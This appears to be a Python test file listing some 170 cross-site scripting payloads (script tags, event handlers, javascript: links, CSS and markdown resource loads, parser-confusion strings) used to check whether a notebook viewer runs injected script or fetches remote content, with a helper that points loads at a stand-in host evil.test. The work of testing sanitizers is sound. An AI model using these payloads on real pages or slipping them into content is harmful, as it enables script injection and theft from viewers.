"""Ways to run a script in, or to load something into, the page of whoever looks at a notebook.

FIRE is a call that tells the test; URL an address that the test watches, and that leads nowhere. What
swallows the rest of a page stands last, so that without cleaning the others still show what they do.
"""

PAYLOADS = r'''
<script>FIRE</script>
<SCRIPT SRC="URL"></SCRIPT>
<ScRiPt type="text/javascript">FIRE</sCrIpT >
<script/x>FIRE</script>
<script type=module>FIRE</script>
<script src="data:text/javascript,FIRE"></script>
<scr<script>ipt>FIRE</scr</script>ipt>
<img src=x onerror=FIRE>
<img src=x onerror="FIRE">
<img src=x:x onerror=FIRE//
<img/src="x"/onerror=FIRE>
<IMG SRC=x ONERROR="&#70;IRE;FIRE">
<img """><script>FIRE</script>">
<img src="x` `<script>FIRE</script>"` `>
<img src='x' alt="a" onload onerror=FIRE>
<img srcset="URL 1x" onerror=FIRE>
<img src=URL>
<img lowsrc=URL dynsrc=URL src=x onerror=FIRE>
<picture><source srcset="URL"><img src=x onerror=FIRE></picture>
<body onload=FIRE>
<body background="URL">
<body onpageshow=FIRE>
<svg onload=FIRE>
<svg/onload=FIRE>
<svg><script>FIRE</script></svg>
<svg><script href="data:text/javascript,FIRE"/></svg>
<svg><animate onbegin=FIRE attributeName=x dur=1s>
<svg><set onbegin=FIRE attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:FIRE /><text x=20 y=20>go</text></a></svg>
<svg><image href="URL"></svg>
<svg><image xlink:href="URL"></svg>
<svg><use href="data:image/svg+xml,<svg id=x><image href=URL /></svg>#x"/></svg>
<svg><foreignObject><img src=x onerror=FIRE></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.FIRE</script>"></iframe></foreignObject></svg>
<svg><style>@import "URL";</style></svg>
<svg><filter id=f><feImage href="URL"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>
<svg><desc><img src=x onerror=FIRE></desc></svg>
<svg><title><style><img src="</style><img src=x onerror=FIRE>"></style></title></svg>
<math><mtext><img src=x onerror=FIRE></mtext></math>
<math href="javascript:FIRE">go</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=FIRE&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=FIRE></annotation-xml></math>
<iframe src="javascript:parent.FIRE"></iframe>
<iframe src="URL"></iframe>
<iframe srcdoc="<script>parent.FIRE</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.FIRE&gt;"></iframe>
<iframe onload=FIRE></iframe>
<iframe src="data:text/html,<script src=URL></script>"></iframe>
<object data="URL"></object>
<object data="data:text/html,<script src=URL></script>"></object>
<object data=x onerror=FIRE></object>
<embed src="URL">
<embed src="data:text/html,<script src=URL></script>">
<applet archive="URL" code=x>x</applet>
<link rel=stylesheet href="URL">
<link rel=prefetch href="URL">
<link rel=preload as=image href="URL">
<link rel=icon href="URL">
<link rel=modulepreload href="URL">
<style>@import "URL";</style>
<style>@import url(URL);</style>
<style>body{background:url(URL)}</style>
<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>
<style>li{list-style-image:url(URL)}</style><ul><li>x</ul>
<style>a::before{content:url(URL)}</style><a>x</a>
<style></style><img src=x onerror=FIRE>
<div style="background:url(URL)">x</div>
<div style="background-image:image-set('URL' 1x)">x</div>
<div style="background-image:u\72l(URL)">x</div>
<div style="list-style:url(URL);display:list-item">x</div>
<div style="border-image:url(URL) 1;border:9px solid">x</div>
<div style="cursor:url(URL),auto;position:fixed;inset:0;z-index:9999">x</div>
<div style="width:expression(FIRE);color:red">x</div>
<div style="content:url(URL);mask-image:url(URL);filter:url(URL#f)">x</div>
<div style="--x:url(URL);background:var(--x)">x</div>
<div style="animation-name:x" onanimationstart=FIRE></div><style>@keyframes x{}</style>
<table background="URL"><tr><td background="URL">x</table>
<a href="javascript:FIRE">go</a>
<a href="JaVaScRiPt:FIRE">go</a>
<a href=" &#14; javascript:FIRE">go</a>
<a href="jav&#x09;ascript:FIRE">go</a>
<a href="jav&#x0A;ascript:FIRE">go</a>
<a href="java&Tab;script&colon;FIRE">go</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;FIRE">go</a>
<a href="javascript://%0AFIRE">go</a>
<a href="vbscript:FIRE">go</a>
<a href="data:text/html,<script src=URL></script>">go</a>
<a href="blob:FIRE">go</a>
<a href=x onclick=FIRE>go</a>
<a onmouseover=FIRE>over</a>
<a href="https://a.test" ping="URL">go</a>
<a xlink:href="javascript:FIRE">go</a>
<a id=x tabindex=1 onfocus=FIRE autofocus>x</a>
[go](javascript:FIRE)
[go](JAVASCRIPT&colon;FIRE)
[go](<javascript:FIRE>)
[go](data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=)
[go][1]&#10;&#10;[1]: javascript:FIRE
![x](URL)
![x](x"onerror="FIRE)
![x](x 'y" onerror="FIRE')
<javascript:FIRE>
$\href{javascript:FIRE}{x}$
$x<img src=x onerror=FIRE>$
$$\begin{a}<img src=x onerror=FIRE>\end{a}$$
`<img src=x onerror=FIRE>` ``<script>FIRE</script>``
<form action="javascript:FIRE"><input type=submit></form>
<form><button formaction="javascript:FIRE">go</button></form>
<form action="URL"><input name=q autofocus onfocus=FIRE></form>
<input autofocus onfocus=FIRE>
<input type=image src="URL" onerror=FIRE>
<select autofocus onfocus=FIRE></select>
<textarea autofocus onfocus=FIRE></textarea>
<keygen autofocus onfocus=FIRE>
<button onclick=FIRE>go</button>
<label onmouseover=FIRE>x</label>
<isindex type=image src="URL" onerror=FIRE>
<details open ontoggle=FIRE><summary>x</summary></details>
<details><summary onclick=FIRE>x</summary></details>
<marquee onstart=FIRE>x</marquee>
<video src=x onerror=FIRE></video>
<video poster="URL"></video>
<video><source onerror=FIRE src=x></video>
<audio src="URL" onerror=FIRE autoplay></audio>
<audio src=x onerror=FIRE></audio>
<video><track default src="URL"></video>
<bgsound src="URL">
<div onpointerover=FIRE>x</div>
<div contenteditable onfocus=FIRE autofocus>x</div>
<div onwheel=FIRE onscroll=FIRE oncontextmenu=FIRE>x</div>
<x onclick=FIRE tabindex=1>x</x>
<x-element onmouseover=FIRE>x</x-element>
<p onmouseover="FIRE" / onclick=FIRE>x</p>
<p class="x" / "onmouseover="FIRE">x</p>
<p title="</p><img src=x onerror=FIRE>">x</p>
<p title='--><img src=x onerror=FIRE>'>x</p>
<p title="`><img src=x onerror=FIRE>">x</p>
<p id="</title><script>FIRE</script>">x</p>
<b <script>FIRE</script>>x</b>
<<img src=x onerror=FIRE>
<!--><img src=x onerror=FIRE>-->
<!-- --!><img src=x onerror=FIRE> -->
<!-- <img src=x onerror=FIRE> -- ><img src=x onerror=FIRE>
<![CDATA[<img src=x onerror=FIRE>]]>
<?xml version="1.0"?><img src=x onerror=FIRE>
<!DOCTYPE x [<!ENTITY y SYSTEM "URL">]><img src=x onerror=FIRE>
</div></div></div></div></div><img src=x onerror=FIRE>
</td></table><img src=x onerror=FIRE>
<table><td><form><img src=x onerror=FIRE></table>
<noscript><p title="</noscript><img src=x onerror=FIRE>"></noscript>
<noembed><img title="</noembed><img src=x onerror=FIRE>"></noembed>
<xmp><p title="</xmp><img src=x onerror=FIRE>"></xmp>
<template><img src=x onerror=FIRE></template>
<template shadowrootmode=open><img src=x onerror=FIRE></template>
<img src=x onerror=FIRE
<img src="x" onerror="eval(atob('X'));FIRE">
<img src=x oneonerrorrror=FIRE onerror=FIRE>
%3Cimg src=x onerror=FIRE%3E
&lt;img src=x onerror=FIRE&gt;
+ADw-script+AD4-FIRE+ADw-/script+AD4-
<span class="full-credit" data-toggle="tooltip" data-html="true" title="<img src=x onerror=FIRE>">x</span>
<span data-link="javascript:FIRE" class="score tabbable" id="check_x">x</span>
<script type="text/x-mathjax-config">FIRE</script>
<script type="math/tex">\href{javascript:FIRE}{x}</script>
<script type="application/vnd.jupyter.widget-view+json">{"model_id": "FIRE"}</script>
<meta http-equiv="refresh" content="0;url=URL">
<meta http-equiv="Content-Security-Policy" content="report-uri URL">
<base href="URL/"><img src=x onerror=FIRE>
<frameset onload=FIRE><frame src="URL"></frameset>
<plaintext><img src=x onerror=FIRE>
<textarea><img title="</textarea><img src=x onerror=FIRE>
<title><img title="</title><img src=x onerror=FIRE>
<style><img title="</style><img src=x onerror=FIRE>
'''.strip().splitlines()
assert len(PAYLOADS) >= 80


def armed(number: int, where: str) -> str:
    """A payload that says which one it is, and where it stood."""
    payload = PAYLOADS[number].replace("URL", f"http://evil.test/{where}-{number}")
    return payload.replace("FIRE", f"fired(`{where}-{number}`)").replace("&#10;", "\n")
